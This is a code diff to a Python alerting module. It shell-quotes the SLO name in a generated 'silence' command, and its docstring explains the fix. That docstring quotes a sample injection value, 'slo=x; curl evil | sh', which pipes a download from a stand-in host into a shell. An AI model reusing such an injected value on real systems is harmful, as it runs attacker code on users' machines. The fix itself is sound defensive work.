@@ -11,6 +11,7 @@ missing. Nothing here does I/O.
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import Mapping
 from dataclasses import dataclass
 from typing import TYPE_CHECKING, Any
@@ -123,9 +124,12 @@ def firing_for_text(alert: "Alert") -> str | None:
 
 
 def silence_command(alert: "Alert") -> str:
-    """The command that snoozes this alert: the engine's, or ``slotui silence add slo=NAME -d 1h``."""
+    """The command that snoozes this alert: the engine's, or ``slotui silence add slo=NAME -d 1h``.
+
+    The name is shell-quoted as the engine's is: copied from a test alert (which has no engine
+    command), ``slo=x; curl evil | sh`` ran the rest of an SLO's name as a shell command."""
     return alert.annotations.get("silence_command") or (
-        f'slotui silence add slo={alert.slo} severity={alert.severity} -d 1h --comment "…"'
+        f"slotui silence add slo={shlex.quote(alert.slo)} severity={alert.severity} -d 1h --comment 'ack'"
     )
 
 
